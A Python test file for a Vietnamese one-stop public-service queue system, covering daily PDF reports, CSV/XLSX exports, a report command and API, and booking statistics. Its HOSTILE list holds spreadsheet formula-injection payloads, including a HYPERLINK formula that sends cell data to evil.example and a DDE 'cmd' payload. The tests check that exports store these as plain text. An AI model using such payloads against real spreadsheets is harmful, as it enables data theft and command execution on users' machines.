"""The daily report of a seeded day: every section, the comparison with previous weekdays,
and the CSV/XLSX exports with one row per ticket."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import sys
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from onestop.compose import build_hub
from onestop.hub.reporting import export_rows, report_input
from onestop.printing.exports import COLUMNS, to_csv, to_xlsx
from onestop.printing.report import render_report
from onestop.settings import Settings
from tests.clock import FakeClock, hanoi
from tests.conftest import require
from tests.printing.seed import seed_day

DAY = date(2026, 11, 23)  # a Monday
SECTIONS = ["1. Tổng quan", "2. Số phiếu theo giờ và lĩnh vực", "3. Thời gian chờ theo lĩnh vực",
            "4. Thời gian phục vụ", "5. Vắng mặt và chuyển", "6. Đánh giá của công dân",
            "7. So sánh với 4 thứ hai trước"]


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("report")
    hub = build_hub(Settings(data_dir=folder), clock=FakeClock(hanoi(2026, 10, 26, 7)))
    hub.auth.add_officer("canbo1", "111111", "Nguyễn Thị Lan")
    for weeks, n in ((4, 90), (3, 100), (2, 110), (1, 95), (0, 120)):
        hub.issued_today = seed_day(hub.store, DAY - timedelta(weeks=weeks), n, seed=weeks + 1)
    yield hub
    hub.close()


def pdf_text(pdf: bytes, tmp_path) -> str:
    tool = shutil.which("pdftotext")
    require("pdftotext", tool is not None, "poppler-utils not installed")
    path = tmp_path / "r.pdf"
    path.write_bytes(pdf)
    return subprocess.run([tool, "-layout", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout


def test_report_has_every_section(seeded, tmp_path):
    data = report_input(seeded.store, DAY, "Phường Cửa Nam")
    assert data.stats.issued == seeded.issued_today and len(data.previous) == 4
    assert data.stats.served > 80 and data.stats.no_show > 0 and data.stats.rated > 0
    text = pdf_text(render_report(data), tmp_path)
    flat = " ".join(text.split())
    for section in SECTIONS:
        assert section in flat, section
    assert "BÁO CÁO NGÀY 23/11/2026 – Phường Cửa Nam" in flat
    # The leader's words, as on central's dashboard, and the one definition of a wait.
    assert "Trung tâm Phục vụ hành chính công phường Cửa Nam" in flat
    for words in ("Số phiếu đã cấp", "90% chờ không quá (phút)", "Điểm hài lòng TB (thang 3)",
                  "từ lúc lấy số đến lúc được gọi"):
        assert words in flat, words
    assert "P90" not in flat and "Bộ phận Tiếp nhận" not in flat
    assert re.search(r"Điểm hài lòng TB \(thang 3\) [123],\d\d", flat)
    assert "Chứng thực" in flat and "Rất hài lòng" in flat and "Nguyễn Thị Lan" in flat
    for prev in ("16/11", "09/11", "02/11", "26/10"):
        assert prev in flat


def test_exports_have_one_row_per_ticket(seeded):
    rows = export_rows(seeded.store, DAY)
    n = seeded.issued_today
    assert len(rows) == n
    table = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"))))
    assert table[0][:3] == ["Số", "Mã thủ tục", "Thủ tục"] and len(table) == n + 1
    book = load_workbook(io.BytesIO(to_xlsx(rows)))
    sheet = book.active
    assert sheet.max_row == n + 1
    numbers = [sheet.cell(row=r, column=1).value for r in range(2, n + 2)]
    assert sorted(numbers) == sorted(r["number"] for r in rows)
    assert any(sheet.cell(row=r, column=3).value == "Chứng thực bản sao từ bản chính"
               for r in range(2, n + 2))


def test_report_command_and_api(seeded, tmp_data, tmp_path):
    out = tmp_path / "r.pdf"
    done = subprocess.run([sys.executable, "-m", "onestop", "report", "--out", str(out),
                           "--xlsx", str(tmp_path / "r.xlsx")], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert out.read_bytes().startswith(b"%PDF") and (tmp_path / "r.xlsx").stat().st_size > 0
    bad = subprocess.run([sys.executable, "-m", "onestop", "report", "--date", "2999-01-01",
                          "--out", str(out)], capture_output=True, text=True)
    assert bad.returncode == 2 and len(bad.stderr.strip().splitlines()) == 1


HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "+1+1", "-2+3",
           "@SUM(1,2)", "\tTAB", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_exports_write_typed_reasons_as_text_never_formulas(seeded):
    """Issue 13, finding 4: reasons starting with = + - @ landed in the outcome column as
    formulas (stored as real formulas in the XLSX)."""
    base = export_rows(seeded.store, DAY)[0]
    rows = [{**base, "outcome": text, "officer": text} for text in HOSTILE]
    table = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"), newline="")))
    outcome = [title for _, title in COLUMNS].index("Kết quả")
    assert [r[outcome] for r in table[1:]] == ["'" + text for text in HOSTILE]
    sheet = load_workbook(io.BytesIO(to_xlsx(rows))).active
    for r, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=r, column=outcome + 1)
        assert (cell.value, cell.data_type) == (text.replace("\r", "\n"), "s")  # XML: CR→LF
    numbers = [c.value for c in sheet[2] if isinstance(c.value, int | float)]
    assert numbers  # numbers stay numbers


def test_report_endpoint_exports_are_formula_free(live_hub):
    from onestop.queue.operations import IssueRequest

    store = live_hub.hub.store
    ticket = store.issue(IssueRequest("2.000815")).ticket
    with live_hub.client("reception") as rec:
        assert rec.post(f"/api/tickets/{ticket.id}/cancel",
                        json={"reason": HOSTILE[0]}).status_code == 200
    with live_hub.client("supervisor") as sup:
        text = sup.get("/api/report?format=csv").content.decode("utf-8-sig")
        book = load_workbook(io.BytesIO(sup.get("/api/report?format=xlsx").content))
    assert ",\"'=HYPERLINK(" in text
    cells = [c for row in book.active.iter_rows() for c in row if c.value == HOSTILE[0]]
    assert cells and all(c.data_type == "s" for c in cells)


def test_report_counts_booked_numbers_on_time_and_booking_no_shows(seeded, tmp_path):
    from dataclasses import replace

    from onestop.queue.daystats import day_stats
    from onestop.queue.model import Channel

    tickets = seeded.store.tickets_of_day(DAY.isoformat())
    called = [t for t in tickets if t.called_at is not None][:3]
    late = {0: 5, 1: 15, 2: 20}  # minutes from the place in line to the call
    booked = {t.id: replace(t, channel=Channel.BOOKED,
                            issued_at=t.called_at - timedelta(minutes=late[i]))
              for i, t in enumerate(called)}
    stats = day_stats(DAY, [booked.get(t.id, t) for t in tickets],
                      seeded.store.rules.timezone, booking_no_shows=2)
    assert (stats.booked, stats.booked_called, stats.booked_on_time) == (3, 3, 2)
    data = replace(report_input(seeded.store, DAY, "Phường Cửa Nam"), stats=stats)
    flat = " ".join(pdf_text(render_report(data), tmp_path).split())
    share = f"{100 * 3 / len(tickets):.0f}%"
    assert f"Số đặt lịch trực tuyến (tỷ lệ trên số phiếu) 3 ({share})" in flat
    assert "Số đặt lịch được gọi đúng hẹn (trong 15 phút) 2/3 (67%)" in flat
    assert "Lịch hẹn không đến (đã hủy do trễ) 2" in flat
    (tmp_path / "booked.pdf").write_bytes(render_report(data))


def test_report_input_counts_released_bookings(seeded):
    data = report_input(seeded.store, DAY, "Phường Cửa Nam")
    assert (data.stats.booked, data.stats.booking_no_shows) == (0, 0)
